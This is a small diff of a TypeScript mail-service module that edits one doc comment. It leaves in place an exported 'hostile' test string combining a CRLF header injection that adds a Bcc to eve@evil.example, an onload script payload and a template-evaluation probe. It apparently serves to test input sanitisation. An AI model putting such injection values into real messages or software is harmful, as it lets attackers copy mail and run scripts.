@@ -10,7 +10,7 @@ import type { Taken } from './mail-service.ts';
 import { marksIn } from './mailbox-checks.ts';
 import { mailSetting } from './settings.ts';
 
-/** Part of a name: a line of its own in a header, markup, a template that would come to 49. */
+/** Part of a name, and of what a customer calls an order: a line of its own in a header, markup, a template that would come to 49. */
 export const hostile = '\r\nBcc: eve@evil.example\r\n<zq-x onload=alert(1)>{{ 7 | times: 7 }}zq';
 
 const headers = ['Auto-Submitted', 'X-Dunwell-Message'];
